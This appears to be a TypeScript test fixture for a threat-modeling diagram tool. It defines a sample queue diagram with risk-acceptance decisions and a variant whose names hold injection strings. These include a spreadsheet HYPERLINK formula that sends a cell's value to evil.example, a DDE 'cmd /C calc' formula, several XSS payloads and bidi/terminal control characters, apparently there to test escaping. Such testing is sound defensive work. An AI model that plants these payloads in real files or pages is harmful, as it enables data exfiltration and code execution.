import type { Boundary, Diagram, Flow, Resource, Suppression } from '../../shared/diagram/schema.ts';

const resource = (
  id: string,
  name: string,
  x: number,
  answers: Resource['answers'],
  more: Partial<Resource> = {},
): Resource => ({
  id,
  service: 'queue',
  name,
  inside: null,
  position: { x, y: 200 },
  answers,
  note: '',
  ...more,
});

const flow = (id: string, from: string, to: string, label = ''): Flow => ({
  id,
  from,
  to,
  label,
  answers: {},
  note: '',
});

const decision = (control: string, element: string, more: Partial<Suppression> = {}): Suppression => ({
  control,
  element,
  kind: 'riskAccepted',
  justification: 'We know.',
  owner: 'Mira Okafor',
  decidedOn: '2026-01-02',
  expiresOn: null,
  facts: null,
  ...more,
});

const zone = (name: string): Boundary => ({
  id: 'z',
  kind: 'zone',
  name,
  inside: null,
  position: { x: 0, y: 0 },
  size: { width: 400, height: 160 },
  answers: {},
  note: '',
});

/** Two queues, a flow, something unknown, and one decision of each standing; for `reviewCatalog`. */
export const SMALL: Diagram = {
  name: 'Orders',
  boundaries: [zone('north')],
  resources: [
    resource('in', 'incoming', 0, { encrypted: false, open: true }),
    resource('out', 'outgoing', 320, { encrypted: true, retention: 'year' }),
    resource('x', 'box', 640, {}, { service: 'mystery' }),
  ],
  flows: [flow('redrive', 'in', 'out'), flow('away', 'out', 'x', 'archive')],
  suppressions: [
    decision('queue.retention', 'in', {
      kind: 'compensated',
      justification: 'Readers are fast.',
      expiresOn: '2027-01-01',
    }),
    decision('queue.closed', 'in', { expiresOn: '2026-06-30' }),
    decision('queue.encrypt', 'in', { facts: '00000000', owner: '' }),
    decision('queue.encrypt', 'out', { kind: 'falsePositive', justification: 'Was encrypted elsewhere.' }),
    decision('queue.gone', 'in', { justification: 'A control of old.' }),
  ],
  texts: [],
};

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '<script>alert(1)</script><img src=x onerror=alert(2)>',
  '"></title></style>\n# not a heading\n| cell | [link](javascript:alert(3)) ![pixel](http://evil.example/p.png) `code` *bold*',
  '\u202Egnp.exe\u202C \u0000\u001B[31mred\u0007 \uD800 ]]> <!-- --> @here #1 ~~gone~~ &amp; {{name}} {target} %s',
] as const;

/** The same with names that try to be markup, formulas, terminal codes or another direction. */
export const HOSTILE_NAMES: Diagram = {
  ...SMALL,
  name: HOSTILE[1],
  boundaries: [zone(HOSTILE[3])],
  resources: [
    resource('in', HOSTILE[0], 0, { encrypted: false }),
    resource('out', HOSTILE[2], 320, { encrypted: false, open: true }),
    resource('x', '-2+3;=1+1', 640, {}, { service: '<svg onload=alert(4)>' }),
  ],
  flows: [flow('redrive', 'in', 'out', HOSTILE[3]), flow('away', 'out', 'x', "+cmd|' /C calc'!A0")],
  suppressions: [
    decision('queue.encrypt', 'in', {
      justification: `${HOSTILE[2]}\n\n- item`,
      owner: HOSTILE[1],
      expiresOn: '2027-01-01',
    }),
    decision('queue.retention', 'out', { justification: HOSTILE[0], owner: '@mira', expiresOn: '2026-01-01' }),
    decision('<b>no</b>', '=1', { justification: HOSTILE[3], owner: HOSTILE[0] }),
  ],
};
